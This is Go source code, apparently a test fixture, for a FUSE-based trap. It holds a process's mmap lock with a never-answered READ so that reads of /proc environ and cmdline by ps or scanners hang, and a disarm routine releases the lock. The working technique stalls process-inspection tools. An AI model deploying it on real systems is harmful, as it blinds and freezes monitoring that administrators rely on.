package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// FUSE protocol (linux/fuse.h), the little of it the trap needs: it answers INIT, LOOKUP,
// GETATTR, OPEN, FLUSH and RELEASE, and never a READ.
const (
	fuseLookup  = 1
	fuseGetattr = 3
	fuseOpen    = 14
	fuseRead    = 15
	fuseRelease = 18
	fuseFlush   = 25
	fuseInit    = 26
	inHeaderLen = 40
	fileSize    = 64 << 20
	fileNode    = 2
)

var ne = binary.NativeEndian

// fuseInner runs inside the user namespace: mount a FUSE file system on dir (served by this
// process and the outer one), map its one file, and arrange for the mmap lock to stay taken. (Mapping the
// file over the environment's own pages does not work: since Linux 4.17 environ and cmdline
// reads refuse file-backed pages, FOLL_ANON, the fix for CVE-2018-1120.)
func fuseInner(dir, ready string) error {
	runtime.GOMAXPROCS(8)
	const sock = 3 // to the outer process, which gets a copy of the device and serves it too
	mnt := filepath.Join(dir, "mnt")
	if err := os.MkdirAll(mnt, 0o700); err != nil {
		return err
	}
	dev, err := unix.Open("/dev/fuse", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("/dev/fuse: %w", err)
	}
	opts := fmt.Sprintf("fd=%d,rootmode=40000,user_id=0,group_id=0", dev)
	if err := unix.Mount("hostile", mnt, "fuse", unix.MS_NOSUID|unix.MS_NODEV, opts); err != nil {
		return fmt.Errorf("mount fuse in a user namespace: %w", err)
	}
	if err := unix.Sendmsg(sock, []byte{0}, unix.UnixRights(dev), nil, 0); err != nil {
		return fmt.Errorf("pass the FUSE device on: %w", err)
	}
	f, err := os.Open(filepath.Join(mnt, "f"))
	if err != nil {
		return fmt.Errorf("open the trap file: %w", err)
	}
	data, err := unix.Mmap(int(f.Fd()), 0, fileSize, unix.PROT_READ, unix.MAP_SHARED)
	if err != nil {
		return fmt.Errorf("mmap the trap file: %w", err)
	}
	mem, err := os.Open("/proc/self/mem")
	if err != nil {
		return err
	}
	addr := int64(uintptr(unsafe.Pointer(&data[0]))) + 3*4096
	if err := writeReady(ready, "mapped\n"); err != nil {
		return err
	}
	// From here on this process may get stuck behind its own lock (the heap growing, a page
	// fault): nothing below may need it. One thread reads a page of the mapping through
	// /proc/self/mem, which takes the mmap lock for reading and, unlike a page fault, cannot
	// drop it while the page is read in; the READ is never answered. A second thread unmaps the
	// file and queues for the lock for writing. Every later reader of the mmap lock (a read of
	// /proc/PID/environ or cmdline, by anyone: ps, a marker scan) queues behind that writer.
	// The unmapping waits for the outer process's word: it has seen the READ arrive.
	go func() {
		runtime.LockOSThread()
		var b [1]byte
		if n, _ := unix.Read(sock, b[:]); n == 1 {
			_ = unix.Munmap(data)
		}
	}()
	go func() {
		runtime.LockOSThread()
		var b [1]byte
		_, _ = mem.ReadAt(b[:], addr)
	}()
	for {
		time.Sleep(time.Hour)
	}
}

// server answers the kernel's requests on the device, except READ, whose ids it keeps so that
// disarm can answer them: a thread whose request the daemon has read is unkillable (D state)
// until it is answered.
type server struct {
	dev      int
	mu       sync.Mutex
	reads    []uint64
	disarmed bool
}

// pendingReads is how many READs wait for an answer.
func (sv *server) pendingReads() int {
	sv.mu.Lock()
	defer sv.mu.Unlock()
	return len(sv.reads)
}

// disarm answers every pending READ with EIO and every later request with EIO.
func (sv *server) disarm() {
	sv.mu.Lock()
	defer sv.mu.Unlock()
	sv.disarmed = true
	for _, u := range sv.reads {
		reply(sv.dev, u, -int32(unix.EIO), nil)
	}
	sv.reads = nil
}

func (sv *server) serve() {
	dev := sv.dev
	buf := make([]byte, 1<<20+4096)
	for {
		n, err := unix.Read(dev, buf)
		if err != nil {
			if err == unix.EINTR || err == unix.ENOENT {
				continue
			}
			return
		}
		if n < inHeaderLen {
			continue
		}
		op := ne.Uint32(buf[4:8])
		unique := ne.Uint64(buf[8:16])
		node := ne.Uint64(buf[16:24])
		sv.mu.Lock()
		if sv.disarmed && op != fuseInit {
			sv.mu.Unlock()
			reply(dev, unique, -int32(unix.EIO), nil)
			continue
		}
		if op == fuseRead {
			sv.reads = append(sv.reads, unique) // never answered (until disarmed): the trap
		}
		sv.mu.Unlock()
		switch op {
		case fuseInit:
			out := make([]byte, 24) // fuse_init_out as of protocol 7.22
			ne.PutUint32(out[0:], 7)
			ne.PutUint32(out[4:], 22)
			ne.PutUint32(out[8:], 0)      // max_readahead
			ne.PutUint32(out[12:], 0)     // flags
			ne.PutUint16(out[16:], 16)    // max_background
			ne.PutUint16(out[18:], 12)    // congestion_threshold
			ne.PutUint32(out[20:], 65536) // max_write
			reply(dev, unique, 0, out)
		case fuseLookup:
			name := string(buf[inHeaderLen:n])
			if i := strings.IndexByte(name, 0); i >= 0 {
				name = name[:i]
			}
			if node != 1 || name != "f" {
				reply(dev, unique, -int32(unix.ENOENT), nil)
				continue
			}
			out := make([]byte, 40+88) // fuse_entry_out
			ne.PutUint64(out[0:], fileNode)
			ne.PutUint64(out[16:], 3600) // entry_valid
			ne.PutUint64(out[24:], 3600) // attr_valid
			putAttr(out[40:], fileNode)
			reply(dev, unique, 0, out)
		case fuseGetattr:
			out := make([]byte, 16+88) // fuse_attr_out
			ne.PutUint64(out[0:], 3600)
			putAttr(out[16:], node)
			reply(dev, unique, 0, out)
		case fuseOpen:
			reply(dev, unique, 0, make([]byte, 16)) // fuse_open_out: fh 0
		case fuseFlush, fuseRelease:
			reply(dev, unique, 0, nil)
		case fuseRead:
		default:
			reply(dev, unique, -int32(unix.ENOSYS), nil)
		}
	}
}

// putAttr fills a fuse_attr: the root directory (node 1) or the trap file.
func putAttr(b []byte, node uint64) {
	ne.PutUint64(b[0:], node)
	mode, nlink, size := uint32(syscall.S_IFREG|0o444), uint32(1), uint64(fileSize)
	if node == 1 {
		mode, nlink, size = syscall.S_IFDIR|0o755, 2, 0
	}
	ne.PutUint64(b[8:], size)
	ne.PutUint64(b[16:], size/512)
	ne.PutUint32(b[60:], mode)
	ne.PutUint32(b[64:], nlink)
	ne.PutUint32(b[80:], 4096) // blksize
}

func reply(dev int, unique uint64, errno int32, body []byte) {
	out := make([]byte, 16+len(body))
	ne.PutUint32(out[0:], uint32(len(out)))
	ne.PutUint32(out[4:], uint32(errno))
	ne.PutUint64(out[8:], unique)
	copy(out[16:], body)
	_, _ = unix.Write(dev, out)
}
